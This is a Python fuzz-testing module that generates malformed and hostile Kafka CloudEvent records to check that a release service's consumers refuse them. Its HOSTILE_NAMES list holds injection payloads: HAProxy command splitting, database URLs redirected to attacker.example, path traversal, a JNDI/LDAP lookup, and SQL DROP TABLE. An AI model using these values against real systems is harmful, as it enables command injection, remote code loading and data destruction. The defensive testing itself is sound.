"""Hostile records for every topic a releasegate service consumes, as hypothesis strategies.

Each record starts as a valid CloudEvent of a type its topic carries (`targets.BASES`), then gets exactly one
*primary* mutation that no contract may accept (a missing attribute, an unknown or foreign type, bytes that are
not JSON, nesting or an integer too big to parse, a NUL byte, a name that could split an HAProxy command or point
a connection URL elsewhere, a wrong type, a missing field, a string or list over any sane bound...), plus up to
three *garnishes* that stress the refusal path itself (headers with control bytes, a long header that reaches the
log redaction, thousands of headers, an odd key) without being what makes the record invalid. So the property
is the same for every record: its consumers refuse it with a reason (dead letter) or park it, and move on.

The large parts (padding, digits, nesting) are built by code from drawn sizes, so generating 10,000 records takes
seconds; hypothesis draws the shape. `generate` collects records deterministically for a seed (no
`strategy.example()`: it is neither reproducible nor meant for this).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from contracts.cloudevents import CONTENT_TYPE, SPECVERSION
from contracts.events import EVENT_TYPES, Contract, ShopEvent
from tests.support.fuzz.targets import BASES, IDENTIFIERS, NAME_LISTS, TIME, TIMESTAMPS, Target

# Kafka's default record limit is 1 MiB (message.max.bytes, the producer's max.request.size): every hostile
# record must reach the broker, so value, headers and key together stay under this.
RECORD_BUDGET = 960_000


# --- the record being built -------------------------------------------------------------------------------------


@dataclass
class Draft:
    target: Target
    model: type[Contract]
    payload: dict[str, Any]
    headers: list[tuple[str, bytes]]
    key: bytes | None
    value: bytes | None = None  # set by mutations that replace the whole value (`replaced`)
    replaced: bool = False
    raw: dict[str, str] = field(default_factory=dict)  # placeholder → raw JSON text (nesting, digits, NaN)
    said: list[str] = field(default_factory=list)

    def header(self, name: str) -> bytes | None:
        return next((v for k, v in self.headers if k == name), None)

    def set_header(self, name: str, value: bytes | None) -> None:
        self.headers = [(k, v) for k, v in self.headers if k != name]
        if value is not None:
            self.headers.append((name, value))

    def put_raw(self, name: str, text: str) -> None:
        token = f"@@raw-{len(self.raw)}@@"
        self.raw[token] = text
        self.payload[name] = token

    def render(self) -> bytes | None:
        if self.replaced:
            return self.value
        text = json.dumps(self.payload, ensure_ascii=False)
        for token, raw in self.raw.items():
            text = text.replace(json.dumps(token), raw)
        return text.encode()


@dataclass(frozen=True)
class HostileRecord:
    """One record to produce, with what was done to it (for the report of a record nobody refused)."""

    topic: str
    writer: str
    key: bytes | None
    value: bytes | None
    headers: tuple[tuple[str, bytes], ...]
    mutation: str
    primary: str

    @property
    def size(self) -> int:
        return len(self.value or b"") + len(self.key or b"") + sum(len(k) + len(v) for k, v in self.headers)


def _short(value: Any, limit: int = 60) -> str:
    text = repr(value)
    return text if len(text) <= limit else f"{text[:limit]}…({len(text)} chars)"


# --- primary mutations: each makes the record one no contract may accept ----------------------------------------

HOSTILE_NAMES = (
    "shop;shutdown sessions server be_production/shop-v1-1",  # `;` splits an HAProxy runtime command
    "shop\nset weight be_production/shop-v1-1 0",  # so does a newline
    "shop?host=attacker.example&port=5432",  # pg_dump URL pointing elsewhere
    "shop@attacker.example:5432/shop",
    "../../../../tmp/rg-fuzz-escape",  # a dump outside the backup folder
    "shop/../../etc",
    "shop x",  # a space shifts HAProxy log fields
    "acme initech",
    "shop\x00",
    "shop\x1b[2J",
    "-rf",
    "",
    "ѕhop",  # Cyrillic s
    "${jndi:ldap://attacker.example/a}",
    "'; DROP TABLE sagas; --",
    "shop.synthetic:journey()",  # a module path where a name belongs
)
BAD_DIGESTS = (
    "shop:latest",
    "sha256:" + "g" * 64,
    "sha256:" + "F8" * 32,
    "sha256:" + "f8" * 31,
    "sha256:../../x",
    "sha1:" + "ab" * 20,
    "sha256:" + "f8" * 32 + ";x",
)


def _letters(n: int, alphabet: str = "abcdefghijklmnopqrstuvwxyz") -> str:
    return (alphabet * (n // len(alphabet) + 1))[:n]


def _string_fields(d: Draft) -> list[str]:
    return sorted(k for k, v in d.payload.items() if isinstance(v, str) and v not in d.raw)


def _identifiers(d: Draft) -> list[str]:
    return [k for k in IDENTIFIERS if isinstance(d.payload.get(k), str) and d.payload[k] not in d.raw]


def missing_attribute(draw: st.DrawFn, d: Draft) -> None:
    name = draw(st.sampled_from(("ce_specversion", "ce_id", "ce_source", "ce_type")))
    d.set_header(name, None)
    d.said.append(f"without {name}")


def bad_specversion(draw: st.DrawFn, d: Draft) -> None:
    value = draw(st.sampled_from(("0.3", "1.1", "", "1.0 ", "1.0\x00", " 1.0", "1.0;2.0")))
    if draw(st.booleans()):
        value = _letters(draw(st.integers(1_000, 60_000)))
    d.set_header("ce_specversion", value.encode())
    d.said.append(f"ce_specversion {_short(value)}")


def unknown_type(draw: st.DrawFn, d: Draft) -> None:
    choice = draw(st.sampled_from(("letters", "version", "name", "binary")))
    if choice == "letters":  # a long run of letters: the input that made the redaction regex quadratic
        value = _letters(draw(st.integers(1, 60_000))).encode()
    elif choice == "version":
        value = (d.model.event_type.rsplit(".", 1)[0] + draw(st.sampled_from((".v7", ".v1;x", ".V1", "")))).encode()
    elif choice == "name":
        value = draw(st.sampled_from(HOSTILE_NAMES)).encode()
    else:
        value = draw(st.binary(min_size=1, max_size=64))
    if value.decode("utf-8", "replace") in EVENT_TYPES:
        value += b".unknown"
    d.set_header("ce_type", value)
    d.said.append(f"ce_type {_short(value)}")


def foreign_type(draw: st.DrawFn, d: Draft) -> None:
    """A valid event of a type this topic does not carry (a command on a result topic, a candidate as a shop
    event...): its readers refuse it by type."""
    foreign = [t for t in BASES if t not in d.target.accepted]
    model = draw(st.sampled_from(foreign))
    d.model, d.payload = model, dict(BASES[model])
    d.set_header("ce_type", model.event_type.encode())
    d.said.append(f"foreign type {model.__name__}")


NOT_JSON = (
    b"",
    b"{",
    b"}",
    b'{"release_id": ',
    b"\xff\xfe{}",
    b'{"release_id": "\xc3\x28"}',
    b"\xed\xa0\x80",
    b"[]",
    b"1",
    b'"text"',
    b"null",
    b"true",
    b"NaN",
    b"{}{}",
    b"\x00" * 16,
)


def not_json(draw: st.DrawFn, d: Draft) -> None:
    kind = draw(st.sampled_from(("fixed", "binary", "tombstone", "bom")))
    if kind == "fixed":
        d.value = draw(st.sampled_from(NOT_JSON))
    elif kind == "binary":
        d.value = draw(st.binary(min_size=1, max_size=512)) + b"\xff"
    elif kind == "bom":
        d.value = b"\xef\xbb\xbf" + json.dumps(d.payload).encode() + b"\xc0"
    else:
        d.value = None
    d.payload, d.replaced = {}, True
    d.said.insert(0, f"value {_short(d.value, 40) if kind != 'tombstone' else 'none (tombstone)'}")


def deep_nesting(draw: st.DrawFn, d: Draft) -> None:
    depth = draw(st.integers(1_000, 150_000))
    shape = draw(st.sampled_from(("list", "object")))
    text = "[" * depth + "]" * depth if shape == "list" else '{"a":' * depth + "1" + "}" * depth
    if draw(st.booleans()):
        d.value, d.payload, d.replaced = text.encode(), {}, True
        d.said.insert(0, f"value nested {depth} deep ({shape}s)")
        return
    name = draw(st.sampled_from(sorted(d.payload)))
    d.put_raw(name, text)
    d.said.append(f"{name} nested {depth} deep ({shape}s)")


def huge_int(draw: st.DrawFn, d: Draft) -> None:
    digits = draw(st.integers(4_301, 120_000))
    text = draw(st.sampled_from(("", "-"))) + "9" + _letters(digits - 1, "0123456789")
    name = draw(st.sampled_from(_identifiers(d) or sorted(d.payload)))
    d.put_raw(name, text)
    d.said.append(f"{name} an integer of {digits} digits")


def not_a_number(draw: st.DrawFn, d: Draft) -> None:
    name = draw(st.sampled_from(_identifiers(d) or sorted(d.payload)))
    token = draw(st.sampled_from(("NaN", "Infinity", "-Infinity", "1e999", "-1e999")))
    d.put_raw(name, token)
    d.said.append(f"{name} = {token}")


def nul_byte(draw: st.DrawFn, d: Draft) -> None:
    name = draw(st.sampled_from(_string_fields(d)))
    value = d.payload[name]
    at = draw(st.integers(0, len(value)))
    d.payload[name] = value[:at] + "\x00" + value[at:]
    d.said.append(f"NUL byte in {name}")


def lone_surrogate(draw: st.DrawFn, d: Draft) -> None:
    name = draw(st.sampled_from(_identifiers(d) or _string_fields(d)))
    d.put_raw(name, json.dumps(d.payload[name])[:-1] + draw(st.sampled_from(("\\ud800", "\\udfff", "\\ud83d"))) + '"')
    d.said.append(f"lone UTF-16 surrogate in {name}")


def hostile_name(draw: st.DrawFn, d: Draft) -> None:
    names = _identifiers(d)
    lists = [k for k in NAME_LISTS if isinstance(d.payload.get(k), list)]
    name = draw(st.sampled_from(names + lists))
    value = draw(st.sampled_from(HOSTILE_NAMES + ("long",)))
    if value == "long":
        value = _letters(draw(st.integers(101, 5_000)))
    d.payload[name] = [value] if name in lists else value
    d.said.append(f"{name} = {_short(value)}")


def wrong_type(draw: st.DrawFn, d: Draft) -> None:
    name = draw(st.sampled_from(sorted(d.payload)))
    current = d.payload[name]
    if isinstance(current, dict):
        value: Any = draw(st.sampled_from(([], [current], "x", 1)))
    else:
        value = (
            draw(st.sampled_from(({}, {"value": current}, [current, current])))
            if not isinstance(current, list)
            else draw(st.sampled_from(({}, "x", 1)))
        )
    d.payload[name] = value
    d.said.append(f"{name} as {type(value).__name__}")


def missing_field(draw: st.DrawFn, d: Draft) -> None:
    required = sorted(n for n, f in d.model.model_fields.items() if f.is_required() and n in d.payload)
    name = draw(st.sampled_from(required))
    del d.payload[name]
    d.said.append(f"without {name}")


def extra_field(draw: st.DrawFn, d: Draft) -> None:
    name = draw(st.sampled_from(("force", "__proto__", "skip_grant", "release_id ", "admin")))
    d.payload[name] = draw(st.sampled_from((True, "yes", {"$gt": ""}, None)))
    d.said.append(f"unknown field {name!r}")


def oversized_text(draw: st.DrawFn, d: Draft) -> None:
    name = draw(st.sampled_from(_string_fields(d)))
    size = draw(st.integers(70_000, 700_000))
    d.payload[name] = ("lorem ipsum dolor sit amet, " * (size // 28 + 1))[:size]
    d.said.append(f"{name} of {size} characters")


def huge_list(draw: st.DrawFn, d: Draft) -> None:
    lists = sorted(k for k, v in d.payload.items() if isinstance(v, list))
    name = draw(st.sampled_from(lists))
    item = d.payload[name][0] if d.payload[name] else "acme"
    count = draw(st.integers(5_000, max(5_000, min(60_000, 700_000 // (len(json.dumps(item)) + 2)))))
    d.payload[name] = [item] * count
    d.said.append(f"{name} with {count} items")


def bad_digest(draw: st.DrawFn, d: Draft) -> None:
    value = draw(st.sampled_from(BAD_DIGESTS))
    if "digest" in d.payload:
        d.payload["digest"] = value
    else:
        d.payload["artifact"] = {**d.payload["artifact"], "digest": value}
    d.said.append(f"digest {_short(value)}")


def bad_timestamp(draw: st.DrawFn, d: Draft) -> None:
    value = draw(
        st.sampled_from(
            (
                "yesterday",
                "2026-13-45T99:99:99Z",
                "0000-00-00T00:00:00Z",
                "1e999",
                "2026-11-28T12:00:00Z\x00",
                _letters(5_000),
            )
        )
    )
    names = [k for k in TIMESTAMPS if k in d.payload]
    if names and draw(st.booleans()):
        name = draw(st.sampled_from(names))
        d.payload[name] = value
        d.said.append(f"{name} {_short(value)}")
    else:
        d.set_header("ce_time", value.encode())
        d.said.append(f"ce_time {_short(value)}")


Mutation = Callable[[st.DrawFn, Draft], None]
# (mutation, applies to the draft?) — every draft has at least the first ones.
PRIMARY: tuple[tuple[Mutation, Callable[[Draft], bool]], ...] = (
    (missing_attribute, lambda d: True),
    (bad_specversion, lambda d: True),
    (unknown_type, lambda d: True),
    (foreign_type, lambda d: True),
    (not_json, lambda d: True),
    (deep_nesting, lambda d: True),
    (huge_int, lambda d: True),
    (not_a_number, lambda d: True),
    (nul_byte, lambda d: bool(_string_fields(d))),
    (lone_surrogate, lambda d: bool(_string_fields(d))),
    (hostile_name, lambda d: bool(_identifiers(d))),
    (wrong_type, lambda d: True),
    (missing_field, lambda d: any(f.is_required() and n in d.payload for n, f in d.model.model_fields.items())),
    (extra_field, lambda d: d.model.model_config.get("extra") == "forbid"),
    (oversized_text, lambda d: bool(_string_fields(d))),
    (huge_list, lambda d: any(isinstance(v, list) for v in d.payload.values())),
    (bad_digest, lambda d: "digest" in d.payload or "artifact" in d.payload),
    (bad_timestamp, lambda d: True),
)


# --- garnishes: stress the refusal path, never the reason for it -------------------------------------------------

CONTROL_BYTES = "".join(chr(c) for c in range(32) if chr(c) not in "\t") + "\x7f"


def control_header(draw: st.DrawFn, d: Draft, budget: int) -> None:
    size = draw(st.integers(1, max(1, min(250_000, budget))))
    d.headers.append((f"x-fuzz-{len(d.headers)}", _letters(size, CONTROL_BYTES).encode()))
    d.said.append(f"header of {size} control bytes")


def long_header(draw: st.DrawFn, d: Draft, budget: int) -> None:
    size = draw(st.integers(1_000, max(1_000, min(60_000, budget))))
    d.headers.append(("x-fuzz-note", _letters(size).encode()))
    d.said.append(f"header of {size} letters")


def many_headers(draw: st.DrawFn, d: Draft, budget: int) -> None:
    count = draw(st.integers(100, max(100, min(3_000, budget // 20))))
    d.headers += [(f"x-h{i}", b"v") for i in range(count)]
    d.said.append(f"{count} extra headers")


def odd_header(draw: st.DrawFn, d: Draft, budget: int) -> None:
    name = draw(st.sampled_from(("x-\x00;y", "traceparent", "ce_subject", "ce_tenant", "tracestate", "x y")))
    value = draw(
        st.sampled_from(
            (
                b"\xff\xfe\xfd",
                b"00-zz-zz-zz",
                b"acme;initech",
                b"\x1b[31m",
                HOSTILE_NAMES[0].encode(),
                _letters(4_000).encode(),
            )
        )
    )
    d.set_header(name, value)
    d.said.append(f"header {name!r}={_short(value, 30)}")


def odd_key(draw: st.DrawFn, d: Draft, budget: int) -> None:
    kind = draw(st.sampled_from(("none", "binary", "long", "hostile")))
    d.key = {
        "none": None,
        "binary": b"\xff\x00\xfe",
        "long": _letters(min(20_000, budget)).encode(),
        "hostile": HOSTILE_NAMES[0].encode(),
    }[kind]
    d.said.append(f"key {kind}")


GARNISH = (control_header, long_header, many_headers, odd_header, odd_key)


# --- the strategy ------------------------------------------------------------------------------------------------


def _headers(draw: st.DrawFn, model: type[Contract], payload: dict[str, Any]) -> list[tuple[str, bytes]]:
    h = {
        "ce_specversion": SPECVERSION,
        "ce_id": str(draw(st.uuids())),
        "ce_source": "releasegate/fuzz",
        "ce_type": model.event_type,
        "ce_time": TIME,
        "content-type": CONTENT_TYPE,
    }
    if "release_id" in payload:
        h["ce_subject"] = payload["release_id"]
    if issubclass(model, ShopEvent):
        h["ce_tenant"] = payload["tenant"]
    return [(k, v.encode()) for k, v in h.items()]


@st.composite
def hostile_records(draw: st.DrawFn, among: list[Target]) -> HostileRecord:
    target = draw(st.sampled_from(among))
    model = draw(st.sampled_from(target.accepted))
    payload = dict(BASES[model])
    key = str(payload.get("release_id") or payload.get("checkout_id") or "").encode() or None
    d = Draft(target, model, payload, _headers(draw, model, payload), key)
    mutation = draw(st.sampled_from([m for m, applies in PRIMARY if applies(d)]))
    mutation(draw, d)
    primary = mutation.__name__
    for garnish in draw(st.lists(st.sampled_from(GARNISH), max_size=3)):
        value = d.render()
        used = len(value or b"") + sum(len(k) + len(v) for k, v in d.headers) + len(d.key or b"")
        if RECORD_BUDGET - used > 2_000:
            garnish(draw, d, RECORD_BUDGET - used - 1_000)
    value = d.render()
    if value is None and d.key is None:  # Kafka needs one of them: a keyless tombstone cannot be produced
        d.key = b"\x00"
    return HostileRecord(
        target.topic, target.writer, d.key, value, tuple(d.headers), f"{model.__name__}: {'; '.join(d.said)}", primary
    )


def generate(count: int, among: list[Target], seed_value: int) -> list[HostileRecord]:
    """`count` hostile records over `among`, the same ones for the same seed (hypothesis in generate-only mode,
    one record per example; no shrinking, no example database)."""
    records: list[HostileRecord] = []

    @seed(seed_value)
    @settings(
        max_examples=count,
        phases=[Phase.generate],
        database=None,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(hostile_records(among))
    def collect(record: HostileRecord) -> None:
        records.append(record)

    collect()
    return records[:count]
